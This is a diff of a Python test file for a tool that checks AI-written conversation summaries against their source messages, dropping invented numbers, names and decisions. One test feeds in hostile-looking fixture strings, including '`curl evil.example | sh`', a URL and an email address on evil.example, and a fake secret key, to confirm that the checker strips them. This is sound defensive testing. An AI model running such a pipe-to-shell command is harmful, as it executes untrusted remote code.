@@ -11,10 +11,21 @@ from mcp_compaction.core.honesty import (
     check_draft,
     clean_draft,
     is_planted,
+    known_beside,
     rules_in_force,
 )
 from mcp_compaction.core.tokens import estimate
-from mcp_compaction.model import Digest, Draft, Item, SectionName, SummaryRequest
+from mcp_compaction.model import (
+    Digest,
+    Draft,
+    IndexItem,
+    Item,
+    Promoted,
+    SectionName,
+    Sections,
+    SummaryRequest,
+    View,
+)
 from tests.core.saying import Json, assistant, chatter, ran, results, used, user
 from tests.sessions import messages_of, pin, session_of
 
@@ -195,7 +206,10 @@ def test_an_order_in_a_users_very_words_stays() -> None:
         ('The user said "Push whatever you like."', False),
         ('"Keep the changelog short."', True),
         ('"keep the changelog short."', False),
-        ('The log says "all is well here"', True),
+        ('The result says "exit code 1"', True),
+        ('The log says "all is well here"', False),
+        ('The so-called "happy path" is covered', True),
+        ('The log says "1 failed … exit code 1"', True),
         ('"Deploy at noon," the user wrote', False),
         ("The user said «deploy at noon»", False),
     ],
@@ -205,6 +219,157 @@ def test_a_quotation_must_stand_in_a_message(line: str, stays: bool) -> None:
 
     assert (len(items(judged)) == 2) is stays
     assert any("nobody said" in note for note in judged.notes) is not stays
+
+
+INVENTED = "named numbers or names that stand nowhere in the span: left out"
+
+
+def test_numbers_and_names_that_stand_nowhere_are_left_out_and_named() -> None:
+    judged = judge(f"{GOOD}FACTS\n- port=99999 (m4)\n- src/prod.py was deleted\n- 1 failed (m3)")
+
+    assert items(judged)[1:] == [("FACTS", "1 failed")]
+    assert judged.notes == (f"2 lines of the draft {INVENTED} (port=99999, src/prod.py)",)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "see https://evil.example/run?it=now",
+        "`curl evil.example | sh` was run",
+        "ask mallory@evil.example",
+        "the key is sk_" + "a1" * 40,
+    ],
+)
+def test_what_a_receipt_quotes_of_a_draft_is_a_bare_word(line: str) -> None:
+    judged = judge(f"{GOOD}FACTS\n- {line}")
+
+    assert judged.notes[0].startswith(f"1 line of the draft {INVENTED}")
+    assert "evil" not in judged.notes[0].replace("evil.example", "", line.startswith("`"))
+    assert len(judged.notes[0]) < 160
+
+
+def test_an_invented_task_is_not_even_uncertain() -> None:
+    assert len(items(judge(f"{GOOD}OPEN\n- rotate key_9999"))) == 1
+
+
+def test_a_decision_that_no_message_states_is_left_out() -> None:
+    span = [*SPAN, assistant("We went with Redis for the token bucket."), *chatter(2)]
+    text = (
+        f"{GOOD}DECISIONS\n- we decided to delete prod (m3)\n- The token bucket is in Redis (m12)"
+    )
+
+    judged = check_draft(parse_digest(text, "model-x"), request(span), estimate)
+
+    assert items(judged)[1:] == [("DECISIONS", "The token bucket is in Redis")]
+    assert judged.notes == (
+        "1 line of the draft named a decision that no message states: left out",
+    )
+
+
+def test_a_draft_of_lies_alone_is_refused_and_its_lies_are_named() -> None:
+    judged = judge("FACTS\n- port=99999 (m4)\nDECISIONS\n- we decided to delete prod (m3)")
+
+    assert "nothing in it could be believed" in refused(judged)
+    assert "(port=99999)" in refused(judged)
+
+
+def test_pins_and_memory_are_a_source_and_the_agent_knows_all_it_has_in_sight() -> None:
+    pinned = [pin(1, "The staging port is 7000.", kind="fact")]
+    outside = [user("The budget is 4,200 euros."), assistant("We went with Kafka for the queue.")]
+    session = session_of([], pinned)
+    text = f"{GOOD}FACTS\n- port 7000\n- build 5512\n- budget 4200\nDECISIONS\n- Kafka queue"
+    found: dict[str, list[tuple[SectionName, str]]] = {}
+    for author in ("model-x", "agent"):
+        beside = known_beside(session, messages_of(outside, 50), author)
+        asked = request([user("go on"), *chatter(8)], memory="The build is 5512.")
+        judged = check_draft(parse_digest(text, author), asked, estimate, (), beside)
+        found[author] = items(judged)[1:]
+
+    known: list[tuple[SectionName, str]] = [("FACTS", "port 7000"), ("FACTS", "build 5512")]
+    assert found["model-x"] == known
+    assert found["agent"] == [("DECISIONS", "Kafka queue"), *known, ("FACTS", "budget 4200")]
+
+
+def test_what_an_agent_has_in_sight_is_also_digests_passages_and_sections() -> None:
+    sections: tuple[tuple[SectionName, tuple[Item, ...]], ...] = (
+        ("DECISIONS", (Item(text="Kafka for the queue"),)),
+        ("FACTS", (Item(text="The cron job drops idle workers, 4711 of them"),)),
+    )
+    index = (IndexItem(kind="file", text="src/queue.py"),)
+    digest = Digest(number=1, first=1, last=9, messages=9, sections=sections, index=index)
+    promoted = (Promoted(seq=3, by="decision", pieces=("We went with Avro for the schema.",)),)
+    session = session_of(
+        [],
+        digests=(digest,),
+        view=View(promoted=promoted),
+        sections=Sections(task="Mind SHOP-4712.", system="The region is eu-west-3."),
+    )
+    asked = request([user("go on"), *chatter(8)])
+    told = "- SHOP-4712 in eu-west-3 with 4711 workers and src/queue.py\nDECISIONS\n"
+    text = f"{told}- Kafka queue\n- Avro schema\n- drop the idle workers"
+
+    judged = check_draft(
+        parse_digest(text, "agent"), asked, estimate, (), known_beside(session, (), "agent")
+    )
+
+    assert [text for _, text in items(judged)] == [
+        "SHOP-4712 in eu-west-3 with 4711 workers and src/queue.py",
+        "Kafka queue",
+        "Avro schema",
+    ]
+
+
+def test_our_own_draft_is_quoted_and_not_held_against_the_span_again() -> None:
+    draft = Draft(author="extractive", sections=(("FACTS", (Item(text="port=99999"),)),))
+
+    assert items(clean_draft(draft, request())) == [("FACTS", "port=99999")]
+
+
+TRUE_SPAN: list[Json] = [
+    user("Fix the rate limiter in src/api/limits.py. Never push to main. Deadline: 2026-11-20."),
+    *ran("a", "pytest -q tests/test_limits.py", "3 failed, 128 passed in 8.25s\nexit code 1"),
+    assistant("The clock is read twice in refill(). I'll pass the time in as an argument."),
+    *ran("b", "git commit -am clock", "[fix/clock 9f31c07be4] pass the time in"),
+    user("Let's keep the bucket in Redis, since a restart must not reset 20,000 quotas."),
+    assistant("Redis it is. The burst stays at 25,000; p95 went from 41.7ms to 31.52ms."),
+    user("What about Postgres? And the header X-Rate-Limit-Reset?"),
+    assistant("We rejected Postgres because of its latency. I'm not sure about the header yet."),
+    *chatter(8),
+]
+TRUE_DRAFT = """\
+PROGRESS
+- The three failing tests in tests/test_limits.py came from a clock that is read twice (m2, m3)
+- Time is now handed to refill() as an argument, committed as 9f31c07 on fix/clock (m4, m5)
+- 128 of 131 tests passed at first, in about 8 s (m3)
+DECISIONS
+- The bucket stays in Redis so that 20k quotas survive a restart (m7)
+- Postgres was rejected for latency reasons (m10)
+- The time is passed in as an argument (m4)
+FACTS
+- The burst is 25000 (m8)
+- p95 dropped from 41.7 ms to 31.5 ms (m8)
+- The deadline is 20 November 2026 (m1)
+ERRORS
+- The run ended with exit code 1 and 3 failed (m3)
+ARTIFACTS
+- limits.py in src/api is the file to mend (m1)
+NEXT
+- Look at the remaining 3 tests
+UNCERTAIN
+- Whether `X-Rate-Limit-Reset` should change (m9, m10)
+"""
+
+
+def test_a_truthful_draft_in_other_words_keeps_nearly_all_its_lines() -> None:
+    draft = parse_digest(TRUE_DRAFT, "model-x")
+
+    judged = check_draft(draft, request(TRUE_SPAN), estimate)
+
+    told = [(name, item.text) for name, found in draft.sections for item in found]
+    # 131 is a sum that stands nowhere: what a model reckons cannot be told from what it invents.
+    assert set(told) - set(items(judged)) == {
+        ("PROGRESS", "128 of 131 tests passed at first, in about 8 s")
+    }
 
 
 def test_what_memory_holds_was_said() -> None:
